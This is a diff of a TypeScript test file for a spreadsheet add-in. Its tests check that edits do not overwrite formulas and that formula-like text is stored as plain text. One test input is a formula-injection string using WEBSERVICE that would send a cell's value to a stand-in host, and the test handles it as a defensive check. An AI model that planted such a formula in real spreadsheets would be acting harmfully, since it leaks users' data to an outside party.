@@ -2,6 +2,7 @@
 import { setValue } from "../../../src/core/plan/editPlan";
 import { seedSheet } from "../../helpers/forms";
 import { fakeWith, hostFor } from "./helpers";
+import { cellAt } from "../../helpers/cells";
 
 test("apply refuses to write over a formula, writes nothing, and says why", async () => {
   const excel = fakeWith(20, seedSheet());
@@ -10,7 +11,7 @@ test("apply refuses to write over a formula, writes nothing, and says why", asyn
   const { host } = hostFor(excel);
   const res = await host.apply({
     title: { zh: "修复", en: "Fix" },
-    edits: [setValue("申报表", "D9", 1, sheet.get(8, 3)), setValue("申报表", "D8", 326.6, "326.60")],
+    edits: [setValue(cellAt("申报表", "D9"), 1, sheet.get(8, 3)), setValue(cellAt("申报表", "D8"), 326.6, "326.60")],
   });
   expect(res.ok).toBe(false);
   if (!res.ok) expect(res.reason.zh).toContain("公式");
@@ -25,7 +26,7 @@ test("a formula that moved down with an inserted row is still protected", async 
   const { host } = hostFor(excel);
   const res = await host.apply({
     title: { zh: "修复", en: "Fix" },
-    edits: [{ op: "insertRows", sheet: "申报表", row: 5, count: 1, formatFrom: 6 }, setValue("申报表", "D9", 1, 300)],
+    edits: [{ op: "insertRows", sheet: "申报表", row: 4, count: 1, formatFrom: 5 }, setValue(cellAt("申报表", "D9"), 1, 300)],
   });
   expect(res.ok).toBe(false);
   expect(excel.writeSyncs).toHaveLength(0);
@@ -37,7 +38,7 @@ test("text that looks like a formula (a custom template's name) is written as te
   const { host } = hostFor(excel);
   const res = await host.apply({
     title: { zh: "插入", en: "Insert" },
-    edits: [setValue("申报表", "H50", '=WEBSERVICE("http://x/?"&B5)', null), setValue("申报表", "H51", "-5%", null)],
+    edits: [setValue(cellAt("申报表", "H50"), '=WEBSERVICE("http://x/?"&B5)', null), setValue(cellAt("申报表", "H51"), "-5%", null)],
   });
   expect(res).toEqual({ ok: true });
   expect(sheet.cells.get("49,7")).toEqual({ value: '=WEBSERVICE("http://x/?"&B5)' });
